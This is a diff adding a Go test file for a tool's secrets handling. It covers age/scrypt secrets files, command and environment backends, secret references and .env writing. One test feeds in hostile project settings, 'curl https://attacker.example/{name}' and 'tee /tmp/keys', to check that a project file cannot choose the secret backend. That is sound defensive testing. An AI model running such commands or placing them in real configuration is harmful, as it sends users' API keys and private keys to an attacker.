@@ -0,0 +1,530 @@
+package config
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/joho/godotenv"
+)
+
+// testScryptLogN keeps scrypt fast in tests.
+const testScryptLogN = 10
+
+// newTestSecretsFile creates a secrets file holding secrets.
+func newTestSecretsFile(t *testing.T, path, passphrase string, secrets map[string]string) {
+	t.Helper()
+	b, err := openFileSecretBackend(SecretsConfig{File: path}, func(bool) ([]byte, error) {
+		return []byte(passphrase), nil
+	})
+	if err != nil {
+		t.Fatalf("openFileSecretBackend() error = %v", err)
+	}
+	b.logN = testScryptLogN
+	for name, value := range secrets {
+		if err := b.Set(name, value); err != nil {
+			t.Fatalf("Set(%q) error = %v", name, err)
+		}
+	}
+}
+
+func TestAge_RoundTrip(t *testing.T) {
+	passphrase := []byte("correct horse")
+	tests := []struct {
+		name string
+		size int
+	}{
+		{"empty", 0},
+		{"small", 100},
+		{"one full chunk", 64 * 1024},
+		{"several chunks", 2*64*1024 + 7},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			plaintext := bytes.Repeat([]byte{'x'}, tt.size)
+			data, err := ageEncrypt(plaintext, passphrase, testScryptLogN)
+			if err != nil {
+				t.Fatalf("ageEncrypt() error = %v", err)
+			}
+			if !bytes.HasPrefix(data, []byte("age-encryption.org/v1\n-> scrypt ")) {
+				t.Errorf("header = %q, want an age scrypt header", data[:40])
+			}
+
+			got, err := ageDecrypt(data, passphrase)
+			if err != nil {
+				t.Fatalf("ageDecrypt() error = %v", err)
+			}
+			if !bytes.Equal(got, plaintext) {
+				t.Errorf("ageDecrypt() returned %d bytes, want %d", len(got), len(plaintext))
+			}
+		})
+	}
+}
+
+func TestAge_FreshFileKeyPerWrite(t *testing.T) {
+	passphrase := []byte("correct horse")
+	plaintext := []byte(`{"vast":"key"}`)
+
+	first, err := ageEncrypt(plaintext, passphrase, testScryptLogN)
+	if err != nil {
+		t.Fatalf("ageEncrypt() error = %v", err)
+	}
+	second, err := ageEncrypt(plaintext, passphrase, testScryptLogN)
+	if err != nil {
+		t.Fatalf("ageEncrypt() error = %v", err)
+	}
+
+	// A new file key means a new salt and wrapped key in the header
+	header := func(data []byte) string {
+		return string(data[:bytes.Index(data, []byte("\n---"))])
+	}
+	if header(first) == header(second) {
+		t.Error("rewriting the file reused its header and file key")
+	}
+}
+
+// TestAge_Vectors decrypts the scrypt test vectors of the age test suite
+// (c2sp.org/CCTV/age), which were produced by the reference implementation.
+func TestAge_Vectors(t *testing.T) {
+	paths, err := filepath.Glob(filepath.Join("testdata", "age", "scrypt*"))
+	if err != nil || len(paths) == 0 {
+		t.Fatalf("no scrypt vectors: %v", err)
+	}
+
+	for _, path := range paths {
+		t.Run(filepath.Base(path), func(t *testing.T) {
+			contents, err := os.ReadFile(path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			header, file, _ := bytes.Cut(contents, []byte("\n\n"))
+			var expect, payload string
+			var passphrases []string
+			for _, line := range strings.Split(string(header), "\n") {
+				key, value, _ := strings.Cut(line, ": ")
+				switch key {
+				case "expect":
+					expect = value
+				case "payload":
+					payload = value
+				case "passphrase":
+					passphrases = append(passphrases, value)
+				}
+			}
+			if len(passphrases) == 0 {
+				t.Skip("no passphrase")
+			}
+
+			got, err := ageDecrypt(file, []byte(passphrases[0]))
+			switch expect {
+			case "no match":
+				// Stanzas that aren't "scrypt" are rejected before age sees them
+				if !errors.Is(err, ErrWrongPassphrase) && (err == nil || !strings.Contains(err.Error(), "are not supported")) {
+					t.Errorf("ageDecrypt() error = %v, want ErrWrongPassphrase", err)
+				}
+				return
+			case "success":
+			default:
+				if err == nil || errors.Is(err, ErrWrongPassphrase) {
+					t.Errorf("ageDecrypt() error = %v, want an invalid file (%s)", err, expect)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("ageDecrypt() error = %v", err)
+			}
+			if sum := sha256.Sum256(got); hex.EncodeToString(sum[:]) != payload {
+				t.Errorf("payload SHA-256 = %x, want %s", sum, payload)
+			}
+		})
+	}
+}
+
+// TestAge_DecryptsEarlierFiles reads a secrets file written by spinup's own
+// age implementation, before it used filippo.io/age.
+func TestAge_DecryptsEarlierFiles(t *testing.T) {
+	data, err := os.ReadFile(filepath.Join("testdata", "secrets_spinup.age"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	got, err := ageDecrypt(data, []byte("correct horse"))
+	if err != nil {
+		t.Fatalf("ageDecrypt() error = %v", err)
+	}
+	if want := "{\n  \"vast\": \"written-by-spinup\"\n}\n"; string(got) != want {
+		t.Errorf("ageDecrypt() = %q, want %q", got, want)
+	}
+}
+
+func TestAge_Errors(t *testing.T) {
+	passphrase := []byte("correct horse")
+	data, err := ageEncrypt([]byte(`{"vast":"key"}`), passphrase, testScryptLogN)
+	if err != nil {
+		t.Fatalf("ageEncrypt() error = %v", err)
+	}
+
+	if _, err := ageDecrypt(data, []byte("wrong")); !errors.Is(err, ErrWrongPassphrase) {
+		t.Errorf("ageDecrypt() with wrong passphrase error = %v, want ErrWrongPassphrase", err)
+	}
+
+	tampered := bytes.Clone(data)
+	tampered[len(tampered)-1] ^= 1
+	if _, err := ageDecrypt(tampered, passphrase); !errors.Is(err, ErrWrongPassphrase) {
+		t.Errorf("ageDecrypt() of tampered payload error = %v, want ErrWrongPassphrase", err)
+	}
+
+	// A header that doesn't match its MAC is corrupt, not a wrong passphrase
+	badMAC := bytes.Clone(data)
+	mac := bytes.Index(badMAC, []byte("\n--- ")) + len("\n--- ")
+	badMAC[mac] ^= 1
+	if _, err := ageDecrypt(badMAC, passphrase); err == nil || errors.Is(err, ErrWrongPassphrase) {
+		t.Errorf("ageDecrypt() with a bad header MAC error = %v, want an invalid file", err)
+	}
+
+	tests := []struct {
+		data    string
+		wantMsg string
+	}{
+		{"not age\n", "not an age file"},
+		{"age-encryption.org/v1\n", "truncated header"},
+		{"age-encryption.org/v1\n-> X25519 abc\nbody\n--- mac\n", "X25519 recipients are not supported"},
+		{"age-encryption.org/v1\n-> scrypt AAAAAAAAAAAAAAAAAAAAAA 30\nAAAA\n--- AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n", "work factor too large"},
+		{"age-encryption.org/v1\n-> scrypt AAAAAAAAAAAAAAAAAAAAAA 10\n!\n--- mac\n", "invalid secrets file"},
+	}
+	for _, tt := range tests {
+		_, err := ageDecrypt([]byte(tt.data), passphrase)
+		if err == nil || !strings.Contains(err.Error(), tt.wantMsg) {
+			t.Errorf("ageDecrypt(%q) error = %v, want it to contain %q", tt.data, err, tt.wantMsg)
+		}
+	}
+}
+
+func TestFileSecretBackend(t *testing.T) {
+	t.Setenv(SecretsPassphraseEnv, "")
+	path := filepath.Join(t.TempDir(), "spinup", "secrets.age")
+	newTestSecretsFile(t, path, "pass", map[string]string{"vast": "vast-key", "wireguard": "wg-key"})
+
+	info, err := os.Stat(path)
+	if err != nil {
+		t.Fatalf("Stat() error = %v", err)
+	}
+	if mode := info.Mode().Perm(); mode != 0o600 {
+		t.Errorf("mode = %04o, want 0600", mode)
+	}
+	if data, _ := os.ReadFile(path); bytes.Contains(data, []byte("vast-key")) {
+		t.Error("secrets file holds the secret in plaintext")
+	}
+
+	// The passphrase comes from a keyfile, the environment or the prompt
+	keyfile := filepath.Join(t.TempDir(), "key")
+	if err := os.WriteFile(keyfile, []byte("pass\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	b, err := SecretsConfig{File: path, Keyfile: keyfile}.Open(nil)
+	if err != nil {
+		t.Fatalf("Open() with keyfile error = %v", err)
+	}
+	if got, err := b.Get("vast"); err != nil || got != "vast-key" {
+		t.Errorf("Get(vast) = %q, %v, want vast-key", got, err)
+	}
+	if _, err := b.Get("lambda"); !errors.Is(err, ErrSecretNotFound) {
+		t.Errorf("Get(lambda) error = %v, want ErrSecretNotFound", err)
+	}
+
+	// Rewriting keeps the other secrets
+	if err := b.Set("lambda", "lambda-key"); err != nil {
+		t.Fatalf("Set() error = %v", err)
+	}
+	t.Setenv(SecretsPassphraseEnv, "pass")
+	b, err = SecretsConfig{File: path}.Open(nil)
+	if err != nil {
+		t.Fatalf("Open() with %s error = %v", SecretsPassphraseEnv, err)
+	}
+	for name, want := range map[string]string{"vast": "vast-key", "lambda": "lambda-key", "wireguard": "wg-key"} {
+		if got, err := b.Get(name); err != nil || got != want {
+			t.Errorf("Get(%s) = %q, %v, want %q", name, got, err, want)
+		}
+	}
+
+	t.Setenv(SecretsPassphraseEnv, "wrong")
+	if _, err := (SecretsConfig{File: path}).Open(nil); !errors.Is(err, ErrWrongPassphrase) {
+		t.Errorf("Open() with wrong passphrase error = %v, want ErrWrongPassphrase", err)
+	}
+
+	t.Setenv(SecretsPassphraseEnv, "")
+	noPassphrase := func(bool) ([]byte, error) { return nil, nil }
+	if _, err := (SecretsConfig{File: path}).Open(noPassphrase); !errors.Is(err, ErrSecretsLocked) {
+		t.Errorf("Open() without passphrase error = %v, want ErrSecretsLocked", err)
+	}
+
+	var confirm bool
+	prompt := func(c bool) ([]byte, error) {
+		confirm = c
+		return []byte("new"), nil
+	}
+	if _, err := (SecretsConfig{File: filepath.Join(t.TempDir(), "new.age")}).Open(prompt); err != nil || !confirm {
+		t.Errorf("Open() of a new file: confirm = %v, error = %v, want a confirmed passphrase", confirm, err)
+	}
+}
+
+func TestCommandSecretBackend(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("uses cat and tee")
+	}
+	dir := t.TempDir()
+
+	b, err := SecretsConfig{
+		Backend:      SecretBackendCommand,
+		Command:      "cat " + dir + "/{name}",
+		StoreCommand: "tee " + dir + "/{name}",
+	}.Open(nil)
+	if err != nil {
+		t.Fatalf("Open() error = %v", err)
+	}
+	if err := b.Set("vast", "vast-key"); err != nil {
+		t.Fatalf("Set() error = %v", err)
+	}
+	// Only the first line is the secret, like a 'pass' entry
+	if err := os.WriteFile(filepath.Join(dir, "lambda"), []byte("lambda-key\nuser: me\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	for name, want := range map[string]string{"vast": "vast-key", "lambda": "lambda-key"} {
+		if got, err := b.Get(name); err != nil || got != want {
+			t.Errorf("Get(%s) = %q, %v, want %q", name, got, err, want)
+		}
+	}
+	if _, err := b.Get("missing"); err == nil || !strings.Contains(err.Error(), "secret command cat failed for missing") {
+		t.Errorf("Get(missing) error = %v, want the command failure", err)
+	}
+
+	b, err = SecretsConfig{Backend: SecretBackendCommand, Command: "cat"}.Open(nil)
+	if err != nil {
+		t.Fatalf("Open() error = %v", err)
+	}
+	if err := b.Set("vast", "key"); !errors.Is(err, ErrSecretBackendReadOnly) {
+		t.Errorf("Set() without SECRET_STORE_COMMAND error = %v, want ErrSecretBackendReadOnly", err)
+	}
+
+	if _, err := (SecretsConfig{Backend: SecretBackendCommand}).Open(nil); err == nil {
+		t.Error("Open() without SECRET_COMMAND expected error")
+	}
+}
+
+func TestEnvSecretBackend(t *testing.T) {
+	t.Setenv("SPINUP_SECRET_WORK_VAST", "vast-key")
+	b, err := SecretsConfig{Backend: SecretBackendEnv}.Open(nil)
+	if err != nil {
+		t.Fatalf("Open() error = %v", err)
+	}
+	if got, err := b.Get("work/vast"); err != nil || got != "vast-key" {
+		t.Errorf("Get(work/vast) = %q, %v, want vast-key", got, err)
+	}
+	if _, err := b.Get("lambda"); !errors.Is(err, ErrSecretNotFound) || !strings.Contains(err.Error(), "SPINUP_SECRET_LAMBDA") {
+		t.Errorf("Get(lambda) error = %v, want ErrSecretNotFound naming the variable", err)
+	}
+	if err := b.Set("vast", "key"); !errors.Is(err, ErrSecretBackendReadOnly) {
+		t.Errorf("Set() error = %v, want ErrSecretBackendReadOnly", err)
+	}
+
+	if _, err := (SecretsConfig{Backend: "vault"}).Open(nil); err == nil {
+		t.Error("Open() of unknown backend expected error")
+	}
+}
+
+func TestLoad_SecretRefs(t *testing.T) {
+	clearSettingsEnv(t)
+	dir := t.TempDir()
+	secretsFile := filepath.Join(dir, "secrets.age")
+	newTestSecretsFile(t, secretsFile, "pass", map[string]string{"vast": "vast-key"})
+
+	global := filepath.Join(dir, "config.toml")
+	writeConfigFile(t, global, "secrets_file = \""+secretsFile+"\"\n")
+	project := filepath.Join(dir, ".env")
+	writeConfigFile(t, project, "VAST_API_KEY=secret://vast\n")
+
+	prompts := 0
+	passphrase := func(bool) ([]byte, error) {
+		prompts++
+		return []byte("pass"), nil
+	}
+	cfg, _, err := Load(WithGlobalConfig(global), WithProjectConfig(project), WithPassphrase(passphrase))
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.VastAPIKey != "vast-key" {
+		t.Errorf("VastAPIKey = %q, want the secret", cfg.VastAPIKey)
+	}
+	if v := effective(t, cfg, "VAST_API_KEY"); v.Value != "secret://vast" {
+		t.Errorf("effective VAST_API_KEY = %q, want the reference", v.Value)
+	}
+	if prompts != 1 {
+		t.Errorf("passphrase asked %d times, want 1", prompts)
+	}
+
+	// Without references the secrets file stays locked
+	writeConfigFile(t, project, "VAST_API_KEY=plain\n")
+	if _, _, err := Load(WithGlobalConfig(global), WithProjectConfig(project)); err != nil {
+		t.Errorf("Load() without references error = %v", err)
+	}
+
+	tests := []struct {
+		global  string
+		env     string
+		wantErr error
+		wantMsg string
+	}{
+		{"", "VAST_API_KEY=secret://vast\n", ErrSecretsLocked, "VAST_API_KEY"},
+		{"secret_backend = \"env\"\n", "LAMBDA_API_KEY=secret://vast\n", ErrSecretNotFound, "SPINUP_SECRET_VAST"},
+		{"", "VAST_API_KEY=secret://\n", nil, "empty secret name"},
+		{"secret_command = \"secret://cmd\"\nsecret_backend = \"command\"\n", "VAST_API_KEY=secret://vast\n", nil, "can't reference a secret"},
+	}
+	for _, tt := range tests {
+		writeConfigFile(t, global, "secrets_file = \""+secretsFile+"\"\n"+tt.global)
+		writeConfigFile(t, project, tt.env)
+		_, _, err := Load(WithGlobalConfig(global), WithProjectConfig(project))
+		if err == nil || (tt.wantErr != nil && !errors.Is(err, tt.wantErr)) || !strings.Contains(err.Error(), tt.wantMsg) {
+			t.Errorf("Load(%q, %q) error = %v, want %v containing %q", tt.global, tt.env, err, tt.wantErr, tt.wantMsg)
+		}
+	}
+}
+
+func TestLoad_ProjectCannotSelectSecretBackend(t *testing.T) {
+	clearSettingsEnv(t)
+	dir := t.TempDir()
+	global := filepath.Join(dir, "config.toml")
+	project := filepath.Join(dir, ".env")
+
+	tests := []struct {
+		name    string
+		env     string
+		wantErr bool
+	}{
+		{"backend", "SECRET_BACKEND=command\n", true},
+		{"command", "VAST_API_KEY=secret://vast\nSECRET_COMMAND=curl https://attacker.example/{name}\n", true},
+		{"store command", "SECRET_STORE_COMMAND=tee /tmp/keys\n", true},
+		{"secrets file", "SECRETS_FILE=./secrets.age\n", true},
+		{"keyfile", "SECRETS_KEYFILE=./pass\n", true},
+		{"empty values", "SECRET_BACKEND=\nSECRET_COMMAND=\n", false},
+		{"other settings", "DEFAULT_TIER=large\n", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			writeConfigFile(t, project, tt.env)
+			_, _, err := Load(WithGlobalConfig(global), WithProjectConfig(project))
+			if tt.wantErr != errors.Is(err, ErrProjectSetting) {
+				t.Errorf("Load(%q) error = %v, want ErrProjectSetting: %v", tt.env, err, tt.wantErr)
+			}
+		})
+	}
+
+	// The same settings are accepted from the global config file and the environment
+	writeConfigFile(t, global, "secret_backend = \"command\"\nsecret_command = \"echo {name}-key\"\n")
+	writeConfigFile(t, project, "VAST_API_KEY=secret://vast\n")
+	t.Setenv("SECRET_STORE_COMMAND", "cat")
+	cfg, _, err := Load(WithGlobalConfig(global), WithProjectConfig(project))
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.VastAPIKey != "vast-key" || cfg.Secrets.StoreCommand != "cat" {
+		t.Errorf("VastAPIKey = %q, StoreCommand = %q, want vast-key and cat", cfg.VastAPIKey, cfg.Secrets.StoreCommand)
+	}
+}
+
+func TestEnvFile_WriteSecrets(t *testing.T) {
+	t.Setenv(SecretsPassphraseEnv, "")
+	dir := t.TempDir()
+	secretsFile := filepath.Join(dir, "secrets.age")
+	b, err := openFileSecretBackend(SecretsConfig{File: secretsFile}, func(bool) ([]byte, error) {
+		return []byte("pass"), nil
+	})
+	if err != nil {
+		t.Fatalf("openFileSecretBackend() error = %v", err)
+	}
+	b.logN = testScryptLogN
+
+	// The backend is selected in the global config file, above its tables
+	global := filepath.Join(dir, "config.toml")
+	writeConfigFile(t, global, "# My settings\ndefault_region = \"us-east\"\n\n[profiles.work]\ndefault_tier = \"large\"\n")
+	conflict := filepath.Join(dir, "conflict.toml")
+	writeConfigFile(t, conflict, "secret_backend = \"command\"\n")
+
+	path := filepath.Join(dir, ".env")
+	env := &EnvFile{
+		APIKeys:             map[string]string{"vast": "vast-key"},
+		WireGuardPrivateKey: "private",
+		WireGuardPublicKey:  "public",
+		DefaultTier:         "medium",
+		DeadmanTimeoutHours: 10,
+		Secrets:             b,
+		SecretsConfig:       SecretsConfig{Backend: SecretBackendFile, File: secretsFile},
+		GlobalConfig:        conflict,
+	}
+	if err := env.Write(path, false); err == nil || !strings.Contains(err.Error(), "secret_backend") {
+		t.Errorf("Write() with another backend in the global config error = %v, want the conflict", err)
+	}
+	if _, err := os.Stat(path); !os.IsNotExist(err) {
+		t.Errorf("Write() wrote %s despite the conflict", path)
+	}
+
+	env.GlobalConfig = global
+	if err := env.Write(path, false); err != nil {
+		t.Fatalf("Write() error = %v", err)
+	}
+	data, err := os.ReadFile(global)
+	if err != nil {
+		t.Fatalf("ReadFile() error = %v", err)
+	}
+	wantGlobal := "secret_backend = \"file\"\nsecrets_file = \"" + secretsFile + "\"\n\n# My settings\ndefault_region = \"us-east\"\n\n[profiles.work]\ndefault_tier = \"large\"\n"
+	if string(data) != wantGlobal {
+		t.Errorf("global config =\n%s\nwant\n%s", data, wantGlobal)
+	}
+
+	// Writing again keeps the global config as it is
+	if err := env.Write(path, true); err != nil {
+		t.Fatalf("Write() again error = %v", err)
+	}
+	if again, _ := os.ReadFile(global); string(again) != wantGlobal {
+		t.Errorf("global config after the second Write() =\n%s\nwant\n%s", again, wantGlobal)
+	}
+
+	vars, err := godotenv.Read(path)
+	if err != nil {
+		t.Fatalf("godotenv.Read() error = %v", err)
+	}
+	want := map[string]string{
+		"VAST_API_KEY":          "secret://vast",
+		"LAMBDA_API_KEY":        "",
+		"WIREGUARD_PRIVATE_KEY": "secret://wireguard",
+		"WIREGUARD_PUBLIC_KEY":  "public",
+	}
+	for key, value := range want {
+		if got := vars[key]; got != value {
+			t.Errorf("%s = %q, want %q", key, got, value)
+		}
+	}
+	for _, key := range []string{"SECRET_BACKEND", "SECRETS_FILE"} {
+		if _, ok := vars[key]; ok {
+			t.Errorf("%s written to the .env file", key)
+		}
+	}
+
+	// The written configuration loads with the secrets
+	clearSettingsEnv(t)
+	t.Setenv(SecretsPassphraseEnv, "pass")
+	cfg, _, err := Load(WithGlobalConfig(global), WithProjectConfig(path))
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.VastAPIKey != "vast-key" || cfg.WireGuardPrivateKey != "private" {
+		t.Errorf("Load() VastAPIKey = %q, WireGuardPrivateKey = %q, want the stored secrets", cfg.VastAPIKey, cfg.WireGuardPrivateKey)
+	}
+}